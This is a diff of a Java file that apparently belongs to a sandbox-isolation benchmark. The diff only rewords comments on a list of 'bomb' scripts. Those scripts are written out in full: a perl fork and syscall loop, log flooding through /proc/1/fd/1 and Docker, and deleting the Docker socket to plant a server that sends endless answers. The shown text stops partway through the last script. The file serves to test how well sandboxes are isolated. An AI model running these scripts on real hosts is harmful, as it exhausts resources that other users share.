@@ -3,9 +3,9 @@ package dev.slipway.bench;
 import java.util.List;
 
 /**
- * What root in a node does to take from others what all share.
+ * An attack in which root in a node tries to exhaust a resource that all sandboxes share.
  *
- * @param script for bash in the node, where it runs until it is killed
+ * @param script bash script that runs in the node until it is killed
  */
 record Bomb(String name, String script) {
     static final List<Bomb> ALL = List.of(
@@ -23,7 +23,7 @@ record Bomb(String name, String script) {
                     perl -e 'my $init = `uname -m` =~ /x86/ ? 294 : 26; fork for 1..3; syscall($init, 0) for 1..1e5; sleep'"""),
             new Bomb("log output", """
                     yes > /proc/1/fd/1 & docker run --rm --log-opt max-size=1m busybox yes > /dev/null"""),
-            // Each request is answered with a list that never ends.
+            // Answers each request with an endless list.
             new Bomb("engine's answers", """
                     rm -f /var/run/docker.sock
                     perl -e 'use IO::Socket::UNIX; $SIG{CHLD} = "IGNORE";
